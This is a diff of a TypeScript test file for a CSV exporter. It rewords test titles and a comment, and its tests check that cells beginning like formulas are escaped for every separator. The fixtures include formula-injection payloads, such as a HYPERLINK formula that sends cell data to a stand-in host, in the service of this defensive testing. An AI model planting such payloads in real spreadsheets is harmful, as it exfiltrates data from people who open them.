@@ -4,12 +4,12 @@ import { CSV_BOM, toCsv, type CsvCell } from './csv.ts';
 const cell = (value: CsvCell) => toCsv([[value]]).slice(0, -2);
 
 describe('a file', () => {
-  it('has a line for each row, ended as RFC 4180 says', () => {
+  it('has a line for each row, with the line ends of RFC 4180', () => {
     expect(toCsv([['الاسم', 'العدد'], ['سلمى', 3], []])).toBe('الاسم,العدد\r\nسلمى,3\r\n\r\n');
     expect(toCsv([])).toBe('');
   });
 
-  it('begins, for Excel, with the three bytes of UTF-8', () => {
+  it('begins with a UTF-8 byte order mark for Excel', () => {
     expect([...Buffer.from(CSV_BOM + toCsv([['ا']]))].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
   });
 });
@@ -52,12 +52,12 @@ describe('a cell', () => {
     ['\uFEFF=1', "'\uFEFF=1"],
     ['＝1', "'＝1"],
     ['=HYPERLINK("https://evil.example","اضغط")', `"'=HYPERLINK(""https://evil.example"",""اضغط"")"`],
-  ])('that begins like a formula, %j, is text', (value, written) => {
+  ])('that begins like a formula, %j, becomes text', (value, written) => {
     expect(cell(value)).toBe(written);
   });
 });
 
-describe('no cell calculates, wherever a spreadsheet parts them', () => {
+describe('no cell becomes a formula, whatever the separator', () => {
   const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
   const texts = SIGNS.flatMap((sign) => [
     `رأيي;${sign}HYPERLINK("http://evil.example/?"&A1,"x");تمام`,
@@ -75,7 +75,10 @@ describe('no cell calculates, wherever a spreadsheet parts them', () => {
     `أ";${sign}1`,
   ]);
 
-  /** As a spreadsheet takes a file apart at a sign: quotation marks count only where they begin a cell. */
+  /**
+   * Parses a file as a spreadsheet with this separator does: quotation marks count only at the start of a
+   * cell.
+   */
   function read(file: string, separator: string): string[] {
     const cells: string[] = [];
     for (let at = 0; at < file.length;) {
@@ -98,7 +101,7 @@ describe('no cell calculates, wherever a spreadsheet parts them', () => {
     return cells;
   }
 
-  it.each([',', ';', '\t'])('at %j', (separator) => {
+  it.each([',', ';', '\t'])('with %j', (separator) => {
     for (const text of texts) {
       const calculating = read(
         toCsv([
@@ -111,7 +114,7 @@ describe('no cell calculates, wherever a spreadsheet parts them', () => {
     }
   });
 
-  it('and what is no formula stays as it was written', () => {
+  it('and other text stays as written', () => {
     expect(cell('أ; ب - ج')).toBe('"أ; ب - ج"');
     expect(cell('قال: ١+١=٢')).toBe('قال: ١+١=٢');
   });
